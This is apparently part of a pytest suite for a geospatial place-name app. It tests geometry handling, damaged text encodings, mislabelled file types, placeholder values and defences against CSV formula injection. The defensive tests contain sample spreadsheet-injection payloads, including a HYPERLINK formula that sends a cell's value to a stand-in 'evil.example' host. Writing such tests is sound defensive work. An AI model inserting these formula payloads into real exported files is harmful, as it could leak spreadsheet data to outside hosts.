    from atlas.io.export import neutralise_formulas, write_csv

    data, name, _ = hf.markup_names()
    df = read_table(data, name)
    r, _ = _placed(df, districts)
    sites = to_sites(r, layer_name="markup")
    out = pd.read_csv(write_csv(sites, tmp_path / "layer.csv"), dtype=str, keep_default_na=False)
    report = neutralise_formulas(r.error_report("zh").assign(名称=r.table["名称"]))
    for table in (out, report):
        for col in table.columns:
            cells = table[col].astype(str)
            assert not cells.str.match(r"^[=+\-@\t\r]").any(), (col, cells.tolist())
    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"点击")' in out.name_zh.tolist()


# --- geometry files: mixed, missing and 3D geometries, a crs member ------------------------------------


@pytest.mark.parametrize("crs", [None, "EPSG:3857", "EPSG:4490", "CRS84"])
def test_mixed_null_and_3d_geometries_with_a_crs_member(crs, districts):
    data, name, truth = hf.geojson_mixed(crs=crs)
    df = read_table(data, name)
    r, _g = _placed(df, districts)
    placed, unplaced = truth["placed"], truth["unplaced"]
    assert r.table.status.iloc[placed].eq("ok").all() and r.table.status.iloc[unplaced].eq("unplaced").all()
    np.testing.assert_allclose(
        r.table.lon_wgs84.iloc[placed[:3]], np.array(truth["lon"])[placed[:3]], atol=1e-6
    )
    np.testing.assert_allclose(
        r.table.lat_wgs84.iloc[placed[:3]], np.array(truth["lat"])[placed[:3]], atol=1e-6
    )
    sites = to_sites(r, layer_name="mixed", shapes="point")
    assert not shapely.has_z(sites.geometry.dropna().to_numpy()).any()  # 2D points are saved


def test_every_csv_the_app_writes_goes_through_the_neutralising_writers():
    """A CSV is written by atlas.io.downloads.csv_bytes or atlas.io.export.write_csv (both neutralise
    formulas); any other ``to_csv`` in the app (atlas, ui, pages) is a way around them."""
    import ast

    root = Path(__file__).resolve().parents[1]
    allowed = {("atlas/io/downloads.py", "csv_bytes"), ("atlas/io/export.py", "write_csv")}
    found = []
    for path in sorted([*root.glob("atlas/**/*.py"), *root.glob("ui/*.py"), *root.glob("pages/*.py")]):
        rel = str(path.relative_to(root))
        tree = ast.parse(path.read_text(encoding="utf-8"))
        calls = [(fn.name, node.lineno) for fn in ast.walk(tree) if isinstance(fn, ast.FunctionDef)
                 for node in ast.walk(fn) if isinstance(node, ast.Call)
                 and isinstance(node.func, ast.Attribute) and node.func.attr == "to_csv"]
        found += [f"{rel}:{line} in {name}" for name, line in calls if (rel, name) not in allowed]
    assert sorted(set(found)) == []
    from atlas.io.downloads import csv_bytes

    evil = pd.DataFrame({"名称": ['=HYPERLINK("http://evil")', "@SUM(1)", "+1+cmd", "-1+cmd", "科技馆"]})
    back = pd.read_csv(io.BytesIO(csv_bytes(evil)), dtype=str, encoding="utf-8-sig")
    assert back["名称"].tolist() == ["'=HYPERLINK(\"http://evil\")", "'@SUM(1)", "'+1+cmd", "'-1+cmd",
                                   "科技馆"]


# --- damaged text, lying extensions, placeholders ------------------------------------------------------


def test_a_utf8_list_with_damaged_bytes_stays_utf8_and_names_the_rows(districts):
    data, name, truth = hf.csv_damaged_utf8()
    df = read_table(data, name)
    info = df.attrs["read_info"]
    assert info.encoding == "utf-8" and df["名称"].tolist() == truth["names"]
    assert any("Removed 2 invalid UTF-8 byte sequences" in en for _, en in info.notes)
    assert any(f"rows {', '.join(map(str, truth['damaged_rows']))}" in en for _, en in info.notes)


def test_a_lone_surrogate_in_utf16_is_removed_not_refused():
    text = "名称,经度,纬度\n宁波博物馆,121.55,29.87\n图书馆,121.56,29.88\n"
    data = b"\xff\xfe" + text.encode("utf-16-le").replace("图".encode("utf-16-le"), b"\x00\xd8")
    df = read_table(data, "u16.csv")
    assert df["名称"].tolist() == ["宁波博物馆", "书馆"]
    assert any("rows 3" in en for _, en in df.attrs["read_info"].notes)


def test_text_gdal_cuts_at_a_nul_is_read_whole_from_the_geopackage(districts):
    data, name, truth = hf.gpkg_nul_text()
    df = read_table(data, name)
    assert df["名称"].tolist() == truth["names"]
    assert any("Removed control or invisible characters" in en for _, en in df.attrs["read_info"].notes)


@pytest.mark.parametrize(
    ("maker", "named", "holds"),
    [
        (lambda: hf.xlsx_sheets(), "list.csv", "XLSX"),
        (lambda: hf.csv_delimited(), "list.xlsx", "CSV"),
        (lambda: hf.geojson_shapes(), "list.xlsx", "GeoJSON"),
        (lambda: hf.gpkg_layers(layers=1), "list.csv", "GeoPackage"),
    ],
)
def test_a_file_is_read_by_what_it_holds_when_its_extension_lies(maker, named, holds, districts):
    data, _, _truth = maker()
    df = read_table(data, named)
    assert any(f"holds {holds}; read as {holds}" in en for _, en in df.attrs["read_info"].notes)
    r, _ = _placed(df, districts)
    assert (r.table.status != "error").all() and len(df) > 0


@pytest.mark.parametrize(
    "placeholder", ["NULL", "null", "N/A", "-", "—", "/", "无", "#N/A", "#REF!", "#VALUE!"]
)
def test_placeholders_and_spreadsheet_errors_are_not_names(placeholder, districts):
    df = read_table(f"名称,经度,纬度\n{placeholder},121.55,29.87\n科技馆,121.56,29.88\n".encode(), "p.csv")
    r, _ = _placed(df, districts)
    assert r.table.reasons.tolist()[0] == ["missing_name"] and r.table.status.tolist() == ["error", "ok"]
